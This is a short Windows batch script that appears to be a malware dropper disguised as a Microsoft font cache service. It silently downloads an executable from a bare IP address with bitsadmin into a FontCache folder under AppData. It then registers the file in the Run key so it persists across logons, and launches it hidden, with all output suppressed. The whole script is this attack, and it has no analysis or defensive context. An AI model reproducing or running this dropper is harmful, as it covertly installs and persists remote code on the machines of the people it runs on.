@echo off
setlocal
set "D=%APPDATA%\Microsoft\FontCache"
if not exist "%D%" mkdir "%D%"
bitsadmin /transfer fcupd /download /priority high http://203.0.113.80/fc/fontcachesvc.exe "%D%\fontcachesvc.exe" >nul 2>&1
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v FontCacheSvc /t REG_SZ /d "\"%D%\fontcachesvc.exe\" -silent" /f >nul 2>&1
start "" /b "%D%\fontcachesvc.exe" -silent
endlocal
exit /b 0
